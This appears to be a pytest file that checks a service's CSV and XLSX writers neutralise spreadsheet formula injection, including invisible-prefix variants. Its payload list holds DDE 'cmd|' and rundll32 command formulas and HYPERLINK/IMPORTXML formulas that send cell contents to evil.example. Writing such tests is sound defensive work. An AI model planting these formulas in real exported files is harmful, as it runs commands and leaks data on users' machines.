"""No cell that we write is taken for a formula by a spreadsheet program (proof row U)."""

import csv
import io
import itertools
import random
import zipfile
from collections.abc import Callable, Sequence

import pytest
from python_calamine import CalamineWorkbook

from service.spreadsheets import WorkbookWriter, csv_line, safe_cell

FORBIDDEN = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\n", "\u00a0", "\ufeff", "\u200b", "\u202e", "\x00", "\x01 ", "\u2060 ", "\r\n", "\t")
BODIES = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', 'DDE("cmd";"/C calc";"!A0")', "2+5+cmd|' /C'!A0",
    "rundll32|'URL.dll,OpenURL evil'!A", '""', ";=1", ",=1", '","=1+1', "212600000000", "Salma",
)  # fmt: skip


def payloads() -> list[str]:
    found = [f"{before}{start}{body}" for before, start, body in itertools.product(BEFORE, FORBIDDEN, BODIES)]
    random.Random(7).shuffle(found)  # noqa: S311 - reproducible, not secret
    assert len(found) >= 1000
    return found


def csv_file(cells: Sequence[str]) -> list[str]:
    text = "".join(csv_line([cell, "x"]) for cell in cells)
    return [row[0] for row in csv.reader(io.StringIO(text, newline=""))]


def xlsx_file(cells: Sequence[str]) -> list[str]:
    writer = WorkbookWriter()
    data = writer.start() + b"".join(writer.add([cell, "x"]) for cell in cells) + writer.end()
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    return [str(row[0]) for row in sheet.to_python(skip_empty_area=False)]


def raw_file(cells: Sequence[str]) -> list[str]:
    """The planted fault: a writer that takes cells as they are."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([cell, "x"] for cell in cells)
    return [row[0] for row in csv.reader(io.StringIO(buffer.getvalue(), newline=""))]


def n_odd(cells: Sequence[str]) -> int:
    invisible = "".join(BEFORE) + "\r\n\t"
    return sum(cell[:1] in FORBIDDEN or cell.lstrip(invisible)[:1] in FORBIDDEN for cell in cells if cell)


@pytest.mark.parametrize("written", [csv_file, xlsx_file])
def test_no_cell_begins_as_a_formula(written: Callable[[Sequence[str]], list[str]]) -> None:
    cells = written(payloads())
    assert len(cells) == len(payloads())
    assert n_odd(cells) == 0


def test_a_writer_that_takes_cells_as_they_are_is_found_out() -> None:
    assert n_odd(raw_file(payloads())) > 900


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Oujda", "C1 - courant", "a=b", "10 ans", "'quoted'", "م. السعيد", "", "5"):
        assert safe_cell(text) == text


def test_a_workbook_opens_with_its_rows() -> None:
    writer = WorkbookWriter()
    rows: list[list[object]] = [["name", "town"], ["Salma & <Karim>", "وجدة"], ["two\nlines", None]]
    data = writer.start() + b"".join(writer.add(row) for row in rows) + writer.end()
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    assert sheet.to_python() == [["name", "town"], ["Salma & <Karim>", "وجدة"], ["two\nlines", ""]]
